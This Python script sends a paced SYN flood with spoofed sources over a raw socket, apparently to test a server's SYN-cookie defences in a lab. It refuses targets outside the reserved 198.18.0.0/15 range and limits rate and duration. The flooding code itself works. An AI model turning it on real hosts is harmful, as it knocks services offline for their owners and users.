#!/usr/bin/env python3
"""A paced SYN flood from spoofed sources inside the lab's range, from an AF_PACKET socket.

Usage: synflood.py IFACE DST_MAC DST_IP DST_PORT RATE SECS

Every SYN comes from a different address of 198.18.0.0/16 (never 198.18.0.0/24, where
the lab's own hosts are), with a random port and sequence number, so the server's SYN
cookies and replies see what a spoofed flood looks like. The replies go to addresses no
host in the lab has: the kernel in the flooding namespace drops them. At most RATE SYNs a
second for SECS seconds, sent in bursts every 5 ms; prints how many were sent.
"""
import ipaddress
import random
import socket
import struct
import sys
import time

iface, dst_mac, dst_ip, dst_port, rate, secs = sys.argv[1:7]
dst_port, rate, secs = int(dst_port), int(rate), float(secs)
lab = ipaddress.ip_network("198.18.0.0/15")
if ipaddress.ip_address(dst_ip) not in lab:
    sys.exit(f"synflood.py: {dst_ip} is outside the lab's 198.18.0.0/15")
if not 0 < rate <= 1_000_000 or not 0 < secs <= 60:
    sys.exit("synflood.py: RATE must be 1..1000000 and SECS 0..60")

s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
s.bind((iface, 0))
src_mac = s.getsockname()[4]
dst = bytes.fromhex(dst_mac.replace(":", ""))
daddr = socket.inet_aton(dst_ip)


def csum(b):
    if len(b) % 2:
        b += b"\0"
    t = sum(struct.unpack(f"!{len(b) // 2}H", b))
    while t >> 16:
        t = (t & 0xFFFF) + (t >> 16)
    return ~t & 0xFFFF


def syn(rng):
    # 198.18.1.0 - 198.18.255.255: inside the lab range, outside the hosts' /24.
    saddr = bytes([198, 18, rng.randrange(1, 256), rng.randrange(256)])
    sport = rng.randrange(1024, 65536)
    opts = struct.pack("!BBH", 2, 4, 1460)  # MSS
    tcp = struct.pack("!HHIIBBHHH", sport, dst_port, rng.getrandbits(32), 0, (5 + 1) << 4,
                      0x02, 64240, 0, 0) + opts
    pseudo = saddr + daddr + struct.pack("!BBH", 0, 6, len(tcp))
    tcp = tcp[:16] + struct.pack("!H", csum(pseudo + tcp)) + tcp[18:]
    ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(tcp), rng.getrandbits(16), 0x4000, 64,
                     6, 0, saddr, daddr)
    ip = ip[:10] + struct.pack("!H", csum(ip)) + ip[12:]
    return dst + src_mac + b"\x08\x00" + ip + tcp


rng = random.Random(1337)
frames = [syn(rng) for _ in range(8192)]
burst = max(1, rate // 200)
sent = 0
start = time.monotonic()
end = start + secs
i = 0
while True:
    now = time.monotonic()
    if now >= end:
        break
    due = int((now - start) * rate)
    while sent < due:
        for _ in range(min(burst, due - sent)):
            s.send(frames[i])
            i = (i + 1) % len(frames)
            sent += 1
    time.sleep(0.005)
print(sent, f"{sent / secs:.0f}")
